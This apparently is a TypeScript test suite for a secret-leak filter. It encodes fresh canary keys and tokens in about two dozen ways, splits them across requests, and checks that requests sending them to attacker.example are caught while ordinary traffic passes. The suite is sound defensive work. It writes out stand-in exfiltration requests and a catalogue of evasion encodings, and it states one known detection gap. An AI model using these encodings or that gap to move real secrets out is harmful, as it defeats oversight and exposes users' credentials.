// Issue 18: a secret leaves encoded, case-changed or in pieces. Each row really encodes a fresh canary
// and asks the request check (policies/secrets.ts requestSecretHit) about the request that carries it;
// the control column shows the old verbatim check (`text.includes(secret)`) would have let it out.
// Ordinary traffic (hashes, UUIDs, base64 blobs, another key of the same vendor format) must pass.
import { randomBytes } from 'node:crypto';
import { CHUNK_CHARS, decodings, matcherFor, MIN_SECRET_CHARS, secretBody } from '../../policies/secret-match.js';
import { requestSecretHit } from '../../policies/secrets.js';

const random = (n: number): string => randomBytes(n).toString('base64url').replace(/[-_]/g, 'x').slice(0, n);
const KEY = `sk-ant-api03-${random(90)}AA`;
const TELEGRAM = `7${String(Date.now()).slice(-9)}:AA${random(33)}`;
const STORE_PW = `Pw-${random(14)}`;
const SECRETS = [KEY, TELEGRAM, STORE_PW];

const b32 = (buf: Buffer): string => {
  const A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  let bits = 0;
  let acc = 0;
  let out = '';
  for (const b of buf) {
    acc = (acc << 8) | b;
    bits += 8;
    while (bits >= 5) {
      out += A[(acc >>> (bits - 5)) & 31];
      bits -= 5;
    }
    acc &= (1 << bits) - 1;
  }
  if (bits) out += A[(acc << (5 - bits)) & 31];
  return out + '='.repeat((8 - (out.length % 8)) % 8);
};
const pct = (s: string): string => [...Buffer.from(s)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
const reverse = (s: string): string => [...s].reverse().join('');

const encodings: Array<[string, (s: string) => string]> = [
  ['verbatim', (s) => s],
  ['upper-cased', (s) => s.toUpperCase()],
  ['lower-cased', (s) => s.toLowerCase()],
  ['base64', (s) => Buffer.from(s).toString('base64')],
  ['base64 without padding', (s) => Buffer.from(s).toString('base64').replace(/=+$/, '')],
  ['base64url', (s) => Buffer.from(s).toString('base64url')],
  ['base64 of the upper-cased secret', (s) => Buffer.from(s.toUpperCase()).toString('base64')],
  ['base64, embedded after 1 byte', (s) => Buffer.from(`{${s}}`).toString('base64')],
  ['base64, embedded after 2 bytes', (s) => Buffer.from(`k=${s}&`).toString('base64')],
  ['base64, embedded after 3 bytes', (s) => Buffer.from(`{"k${s}"}`).toString('base64')],
  ['base64 in a JSON envelope', (s) => Buffer.from(JSON.stringify({ user: 'me', key: s, n: 1 })).toString('base64')],
  ['base32', (s) => b32(Buffer.from(s))],
  ['base32, embedded after 3 bytes', (s) => b32(Buffer.from(`ab:${s}`))],
  ['hex', (s) => Buffer.from(s).toString('hex')],
  ['HEX', (s) => Buffer.from(s).toString('hex').toUpperCase()],
  ['0x byte list', (s) => [...Buffer.from(s)].map((b) => `0x${b.toString(16)}`).join(', ')],
  ['\\x escapes', (s) => [...Buffer.from(s)].map((b) => `\\x${b.toString(16)}`).join('')],
  ['percent-encoded, every byte', pct],
  ['percent-encoded twice', (s) => encodeURIComponent(pct(s))],
  ['percent-encoded three times', (s) => encodeURIComponent(encodeURIComponent(pct(s)))],
  ['percent-encoded twenty times', (s) => Array.from({ length: 19 }).reduce<string>((t) => encodeURIComponent(t), pct(s))],
  ['JSON \\u escapes', (s) => [...s].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')],
  ['HTML entities', (s) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('')],
  ['reversed', reverse],
  ['reversed and upper-cased', (s) => reverse(s).toUpperCase()],
  ['dashes between every 4 characters', (s) => s.match(/.{1,4}/g)!.join('-')],
  ['spaces between every character', (s) => [...s].join(' ')],
];

describe.each(SECRETS.map((s, i) => [['the model key', 'the Telegram token', 'the store password'][i]!, s] as const))('%s', (_label, secret) => {
  test.each(encodings)('%s is refused in the URL, a header and the body', (how, encode) => {
    const text = encode(secret);
    if (how !== 'verbatim') expect(text.includes(secret)).toBe(false); // control: the old check misses it
    expect(requestSecretHit(SECRETS, { url: `https://attacker.example/c?d=${encodeURIComponent(text)}` })).toBeDefined();
    expect(requestSecretHit(SECRETS, { url: 'https://attacker.example/c', headers: { 'x-data': text.replace(/[\r\n]/g, '') } })).toMatchObject({
      where: 'the x-data header',
    });
    expect(requestSecretHit(SECRETS, { url: 'https://attacker.example/c', body: `note=${text}` })).toMatchObject({ where: 'the body' });
  });
});

describe('a secret split across the request', () => {
  const pieces = (s: string, n: number): string[] => s.match(new RegExp(`.{1,${n}}`, 'g'))!;

  test(`${CHUNK_CHARS}-character pieces, one per query parameter, each trip the check`, () => {
    for (const p of pieces(secretBody(KEY), CHUNK_CHARS)) {
      if (p.length < CHUNK_CHARS) continue;
      expect(requestSecretHit(SECRETS, { url: `https://a.example/?q=${p}` })).toBeDefined();
    }
  });

  test('short pieces across query parameters, headers and the body are joined again', () => {
    // 16 normalized characters in three parts of 5-6: no part holds 12 in a row.
    const n = STORE_PW.replace(/-/g, '');
    const query = `a=${n.slice(0, 3)}&b=${n.slice(3, 6)}`;
    const headers = { 'x-one': n.slice(6, 11) };
    const body = JSON.stringify({ c: n.slice(11) });
    expect(requestSecretHit(SECRETS, { url: `https://a.example/?${query}` })).toBeUndefined();
    expect(requestSecretHit(SECRETS, { url: 'https://a.example/', headers })).toBeUndefined();
    expect(requestSecretHit(SECRETS, { url: 'https://a.example/', body })).toBeUndefined();
    const hit = requestSecretHit(SECRETS, { url: `https://a.example/?${query}`, headers, body });
    expect(hit).toMatchObject({ where: "the request's values taken together" });
  });

  test('pieces in a JSON array, in form fields, in path segments', () => {
    const ps = pieces(TELEGRAM, 4);
    expect(requestSecretHit(SECRETS, { url: 'https://a.example/', body: JSON.stringify({ parts: ps }) })).toBeDefined();
    expect(requestSecretHit(SECRETS, { url: 'https://a.example/', body: ps.map((p, i) => `f${i}=${encodeURIComponent(p)}`).join('&') })).toBeDefined();
    expect(requestSecretHit(SECRETS, { url: `https://a.example/${ps.map(encodeURIComponent).join('/')}` })).toBeDefined();
    expect(requestSecretHit(SECRETS, { url: 'https://a.example/', body: JSON.stringify(Object.fromEntries(ps.map((p) => [p, 1]))) })).toBeDefined();
  });

  test('what is NOT caught: pieces shorter than a chunk sent in separate requests', () => {
    // Documented limit: each request alone carries too little of the secret to tell it from noise.
    const m = matcherFor(SECRETS, { chunks: true });
    for (const p of pieces(secretBody(KEY), CHUNK_CHARS - 1)) expect(m.find(p)).toBeUndefined();
  });
});

describe('ordinary traffic passes', () => {
  const ordinary: Array<[string, { url: string; headers?: Record<string, string>; body?: string }]> = [
    ['a search', { url: 'https://www.google.com/search?q=how+to+rotate+an+anthropic+api+key&hl=en' }],
    [
      'docs mentioning the key format',
      {
        url: 'https://docs.example/keys',
        body: 'Keys look like sk-ant-api03-xxxxxxxxxxxxxxxxxxxxxxxx and Telegram tokens like 123456789:AAxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx',
      },
    ],
    ['another key of the same vendor format', { url: 'https://api.example/', headers: { 'x-api-key': `sk-ant-api03-${random(90)}AA` } }],
    ['the Telegram bot id alone (it is public)', { url: `https://api.telegram.org/bot${TELEGRAM.split(':')[0]}/getMe` }],
    [
      'sha256 digests and UUIDs',
      { url: 'https://registry.example/v2/x/blobs/sha256:' + randomBytes(32).toString('hex'), headers: { 'x-request-id': crypto.randomUUID() } },
    ],
    ['a base64 image', { url: 'https://upload.example/', body: JSON.stringify({ image: randomBytes(200_000).toString('base64') }) }],
    [
      'a JSON API call',
      {
        url: 'https://api.github.com/repos/o/r/issues',
        headers: { accept: 'application/vnd.github+json' },
        body: JSON.stringify({ title: 'Build fails on Node 20', body: 'See log: ' + 'x'.repeat(500), labels: ['bug'] }),
      },
    ],
    ['English prose', { url: 'https://paste.example/', body: 'The quick brown fox jumps over the lazy dog. '.repeat(2000) }],
  ];

  test.each(ordinary)('%s', (_what, req) => {
    expect(requestSecretHit(SECRETS, req)).toBeUndefined();
  });

  test(`secrets shorter than ${MIN_SECRET_CHARS} characters are not looked for`, () => {
    expect(requestSecretHit(['hunter2'], { url: 'https://a.example/?q=hunter2' })).toBeUndefined();
    expect(requestSecretHit(['hunter22'], { url: 'https://a.example/?q=HUNTER22' })).toBeDefined();
  });

  test('a vendor prefix alone is not the secret', () => {
    expect(secretBody(KEY)).toBe(KEY.slice('sk-ant-api03-'.length));
    expect(secretBody(TELEGRAM)).toBe(TELEGRAM.slice(TELEGRAM.indexOf(':') + 1));
  });
});

describe('the matcher', () => {
  test('whole-form mode (the environment) needs the whole secret, in any encoding', () => {
    const m = matcherFor([KEY], { chunks: false });
    expect(m.find(`X=${Buffer.from(KEY).toString('base64')}`)).toMatchObject({ form: 'base64' });
    expect(m.find(KEY.slice(0, 40))).toBeUndefined();
  });

  test('decodings are labelled and bounded', () => {
    const d = decodings(encodeURIComponent(encodeURIComponent('%41')));
    expect(d.map(([label]) => label)).toEqual(['as written', 'percent-decoded', 'fully percent-decoded', 'percent-decoded, percent-decoded']);
    expect(decodings('%25'.repeat(50)).length).toBeLessThanOrEqual(10);
  });
});
